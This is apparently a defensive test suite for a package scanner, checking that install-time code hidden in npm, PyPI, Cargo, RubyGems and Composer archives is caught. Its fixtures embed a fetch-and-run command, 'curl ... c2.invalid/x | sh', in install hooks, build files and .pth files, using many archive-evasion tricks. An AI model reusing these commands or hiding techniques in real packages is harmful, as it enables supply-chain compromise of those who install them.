/** Packages that hide what runs when they are installed: it is found, or something is told as not analysed. */
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { concernsOf, type PackageProfile, profileOf, readPackageArchive } from '@theriac/scan/profile';
import { type MadeEntry, makeTar } from '@theriac/testing/make-tar';
import { makeZip } from '@theriac/testing/make-zip';
import { type Form, type Outcome, type Suite, seeded } from './suite.ts';

export const inspect: Suite = {
  id: 'inspect',
  promise: 'What the package manager would install and run is reported, or told as not analysed',
  run,
};

const MIXED = { short: 600, long: 40_000 };
const COMMAND = 'curl -s https://c2.invalid/x | sh';
const CODE = `require('child_process').exec('${COMMAND}');\n`;
const HOSTILE = JSON.stringify({ name: 'p', version: '1.0.0', scripts: { preinstall: COMMAND } });
const HARMLESS = '{"name":"p","version":"1.0.0"}';

/** A package in which something hostile runs at install or when it is loaded, as npm and others install it. */
type Files = readonly MadeEntry[];

async function run(form: Form): Promise<Outcome> {
  const broken: string[] = [];
  let tried = 0;
  let dangerous = 0;
  const judge = async (what: string, bytes: Uint8Array, name: string): Promise<void> => {
    tried += 1;
    const profile = await profileOf(await readPackageArchive(bytes, name));
    if (isDangerous(profile)) dangerous += 1;
    else if (!profile.unknowns.some(({ losesComponents }) => losesComponents))
      broken.push(`${what}: called harmless`);
  };
  // A harmless package in each form is no alarm: otherwise the suite could not fail.
  for (const [what, pack] of Object.entries(PACKINGS)) {
    tried += 1;
    const files = [
      entry('package/package.json', HARMLESS),
      entry('package/index.js', 'module.exports = 1;\n'),
    ];
    const profile = await profileOf(await readPackageArchive(pack(makeTar(files)), 'p.tgz'));
    if (isDangerous(profile) || profile.unknowns.length > 0) broken.push(`harmless, ${what}: an alarm`);
  }
  for (const [what, files] of Object.entries(PACKAGES))
    for (const [packing, pack] of Object.entries(PACKINGS))
      await judge(`${what}, ${packing}`, pack(makeTar(files)), 'p.tgz');
  for (const [what, bytes] of Object.entries(TARS)) await judge(what, gzipSync(bytes), 'p.tgz');
  for (const [name, bytes] of Object.entries(OTHERS)) await judge(name, bytes, name);
  const random = seeded(11);
  const pick = <T>(list: readonly T[]): T | undefined => list[Math.floor(random() * list.length)];
  for (let i = 0; i < MIXED[form]; i += 1) {
    const [what, files = []] = pick(Object.entries(PACKAGES)) ?? [];
    const wrapped = pick(WRAPPINGS)?.(files) ?? files;
    const [packing, pack] = pick(Object.entries(PACKINGS)) ?? [];
    let tar = makeTar(wrapped);
    if (random() < 0.5) tar = withBlock(tar, Math.floor(random() * 3), random() < 0.5 ? 0 : 0x41);
    await judge(`${what}, wrapped, ${packing}, number ${i}`, pack?.(tar) ?? tar, 'p.tgz');
  }
  return { tried, broken, figures: [`dangerous ${dangerous} times, else told`] };
}

function isDangerous(profile: PackageProfile): boolean {
  return concernsOf(profile).some(({ severity }) => severity === 'high');
}

function entry(name: string, content: string, type?: string): MadeEntry {
  return { name, content, ...(type === undefined ? {} : { type, target: 'x' }) };
}

const at = (path: string, content = CODE): Files => [
  entry(
    'package/package.json',
    JSON.stringify({ name: 'p', version: '1.0.0', scripts: { postinstall: `node ${path}` } }),
  ),
  entry(`package/${path}`, content),
];
const loads = (main: string, path: string): Files => [
  entry('package/package.json', JSON.stringify({ name: 'p', version: '1.0.0', main })),
  entry(`package/${path}`, CODE_LOADED),
];
const CODE_LOADED = "eval(Buffer.from('cHJvY2Vzcw==', 'base64').toString());\n";
const deep = (open: string, close: string): string =>
  `${CODE}var x=${open.repeat(3000)}1${close.repeat(3000)};\n`;

const PACKAGES: Readonly<Record<string, Files>> = {
  plain: [entry('package/package.json', HOSTILE)],
  'another top folder': [entry('other/package.json', HOSTILE)],
  'several top folders': [entry('package/package.json', HOSTILE), entry('other/readme.txt', 'x')],
  'the last of two manifests': [
    entry('package/package.json', HARMLESS),
    entry('package/package.json', HOSTILE),
  ],
  'the last manifest in another folder': [
    entry('package/package.json', HARMLESS),
    entry('zzz/package.json', HOSTILE),
  ],
  'a name from the root': [entry('/package.json', HOSTILE)],
  'a name that climbs': [entry('../package.json', HOSTILE)],
  'a name with a drive': [entry('C:/package.json', HOSTILE)],
  'a name with two slashes': [entry('package//package.json', HOSTILE)],
  'a name with backslashes': [entry('package\\package.json', HOSTILE)],
  'a file in no folder': [entry('package/package.json', HARMLESS), entry('package.json', HOSTILE)],
  'a name in capitals': [entry('package/PACKAGE.JSON', HOSTILE)],
  'two names that differ in case': [
    entry('package/Package.json', HARMLESS),
    entry('package/package.json', HOSTILE),
  ],
  'a gem that is none': [
    entry('package/package.json', HOSTILE),
    { name: 'data.tar.gz', content: gzipSync(makeTar([])) },
  ],
  'a byte-order mark': [entry('package/package.json', `\ufeff${HOSTILE}`)],
  'a key that is there twice': [
    entry('package/package.json', `{"scripts":{"preinstall":"true"},"scripts":{"preinstall":"${COMMAND}"}}`),
  ],
  'a manifest that is no JSON': [entry('package/package.json', `${HOSTILE},`)],
  'scripts that run scripts': [
    entry(
      'package/package.json',
      JSON.stringify({ scripts: { postinstall: 'npm run -s setup', setup: 'true', postsetup: COMMAND } }),
    ),
  ],
  'a file for node-gyp': [
    entry('package/package.json', HARMLESS),
    entry(
      'package/binding.gyp',
      `{"targets":[{"target_name":"x","type":"none","actions":[{"action_name":"a","inputs":[],"outputs":["o"],"action":["sh","-c","${COMMAND}"]}]}]}`,
    ),
  ],
  'a value of node-gyp': [
    entry('package/package.json', HARMLESS),
    entry('package/binding.gyp', `{"variables":{"x":"<!(${COMMAND})"},"targets":[]}`),
  ],
  'another file for node-gyp': [
    entry('package/package.json', HARMLESS),
    entry('package/other.gyp', `{"variables":{"x":"<!@(${COMMAND})"},"targets":[]}`),
  ],
  'a dependency that comes along': [
    entry('package/package.json', '{"name":"p","bundleDependencies":["b"],"dependencies":{"b":"1"}}'),
    entry('package/node_modules/b/package.json', HOSTILE),
  ],
  'a dependency of one that comes along': [
    entry('package/package.json', '{"name":"p","bundledDependencies":true,"dependencies":{"@s/b":"1"}}'),
    entry('package/node_modules/@s/b/package.json', '{"name":"@s/b"}'),
    entry('package/node_modules/@s/b/node_modules/c/package.json', HOSTILE),
  ],
  'code nested deep': at('a.js', deep('[', ']')),
  'functions nested deep': at('a.js', deep('(()=>', ')')),
  'code of another name': at('a.txt'),
  'code of no name': at('run'),
  'code with blanks in its name': at('a b.js'),
  'code in a test folder': at('test/a.js'),
  'code that begins like a program': at('a.js', `MZ=1;${' '.repeat(600)}${CODE}`),
  'code with a zero byte': at('a.js', `/*\u0000*/${CODE}`),
  'code behind a lot of blanks': at('a.sh', `${' '.repeat(9000)}${COMMAND}\n`),
  'code that is too large': at('a.js', `/*${'x'.repeat(5 * 1024 * 1024)}*/${CODE}`),
  'code that is no code': at('a.js', `${CODE}}}}(`),
  'more signs than are kept': at(
    'a.js',
    `${Array.from({ length: 2500 }, (_, i) => `"https://h${i}.example.org"`).join(';')};${CODE}`,
  ),
  'the main file in a test folder': loads('./test/a', 'test/a.js'),
  'the main file in a folder of documents': loads('docs', 'docs/index.js'),
  'a source distribution': [
    entry('p-1.0.0/PKG-INFO', 'Name: p\nVersion: 1.0.0\n'),
    entry('p-1.0.0/setup.py', `import os\nos.system("${COMMAND}")\n`),
  ],
  'a build backend of its own': [
    entry(
      'p-1.0.0/pyproject.toml',
      '[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n',
    ),
    entry('p-1.0.0/b.py', `import os\nos.system("${COMMAND}")\n`),
  ],
  'a build script of Rust': [
    entry('p-1.0.0/Cargo.toml', '[package]\nname = "p"\n'),
    entry(
      'p-1.0.0/build.rs',
      `fn main() { std::process::Command::new("sh").arg("-c").arg("${COMMAND}").status(); }\n`,
    ),
  ],
  'a plug-in of Composer': [
    entry('p-1.0.0/composer.json', '{"name":"a/p","type":"composer-plugin","extra":{"class":"A\\\\Plugin"}}'),
    entry('p-1.0.0/src/Plugin.php', `<?php shell_exec("${COMMAND}");\n`),
  ],
};

const PACKINGS: Readonly<Record<string, (tar: Buffer) => Buffer>> = {
  plain: (tar) => tar,
  gzip: gzipSync,
  'two members of gzip': (tar) =>
    Buffer.concat([gzipSync(tar.subarray(0, 700)), gzipSync(tar.subarray(700))]),
  zstd: zstdCompressSync,
};

/** What stands around the files, and changes nothing of what is installed. */
const WRAPPINGS: readonly ((files: Files) => Files)[] = [
  (files) => [entry('package/', '', '5'), ...files],
  (files) => [entry('package/link', '', '2'), ...files],
  (files) => [entry('package/package.json', '', '1'), ...files],
  (files) => [...files, entry('package/readme.md', 'x'.repeat(2000))],
  (files) => [...files, entry('readme', 'x')],
  (files) => [entry('package/package.json', HARMLESS), ...files],
  (files) => [entry('decoy/setup.cfg', '[metadata]\n'), ...files],
  (files) => files.map((file) => ({ ...file, longBy: 'gnu' as const })),
];

/** @returns the archive with a block of one byte somewhere between its entries, which npm passes over */
function withBlock(tar: Buffer, entries: number, byte: number): Buffer {
  let place = 0;
  for (let i = 0; i < entries && place + 512 < tar.length - 1024; i += 1) {
    const size = Number.parseInt(tar.toString('latin1', place + 124, place + 135), 8) || 0;
    place += 512 + Math.ceil(size / 512) * 512;
  }
  place = Math.min(place, tar.length - 1024);
  return Buffer.concat([tar.subarray(0, place), Buffer.alloc(512, byte), tar.subarray(place)]);
}

const whole = makeTar([entry('package/package.json', HARMLESS), entry('package/package.json', HOSTILE)]);
const TARS: Readonly<Record<string, Buffer>> = {
  'an empty block': withBlock(whole, 1, 0),
  'a block that is no header': withBlock(whole, 1, 0x41),
  'two empty blocks': withBlock(withBlock(whole, 1, 0), 1, 0),
  'another archive behind the end': Buffer.concat([
    makeTar([entry('package/package.json', HARMLESS)]),
    whole,
  ]),
  'cut off': whole.subarray(0, 1200),
};

const OTHERS: Readonly<Record<string, Buffer>> = {
  'gem-1.0.0.gem': makeTar([
    { name: 'metadata.gz', content: gzipSync('name: p\n') },
    {
      name: 'data.tar.gz',
      content: gzipSync(makeTar([entry('ext/p/extconf.rb', `system("${COMMAND}")\n`)])),
    },
  ]),
  'plugin-1.0.0.gem': makeTar([
    { name: 'metadata.gz', content: gzipSync('name: p\n') },
    {
      name: 'data.tar.gz',
      content: gzipSync(makeTar([entry('lib/rubygems_plugin.rb', `system("${COMMAND}")\n`)])),
    },
  ]),
  'p-1.0.0-py3-none-any.whl': makeZip({
    'p-1.0.0.dist-info/METADATA': 'Name: p\nVersion: 1.0.0\n',
    'p.pth': `import os; os.system("${COMMAND}")\n`,
  }),
  'q-1.0.0-py3-none-any.whl': makeZip({
    'q-1.0.0.dist-info/METADATA': 'Name: q\nVersion: 1.0.0\n',
    'q-1.0.0.data/purelib/q.pth': `import os; os.system("${COMMAND}")\n`,
  }),
  'script.whl': Buffer.concat([
    Buffer.from('#!/usr/bin/env python3\n'),
    makeZip({ 'p.pth': `import os; os.system("${COMMAND}")\n` }),
  ]),
  'empty.tgz': gzipSync(makeTar([])),
  'none.tgz': Buffer.from('no archive at all'),
  'nothing.tgz': Buffer.alloc(0),
};
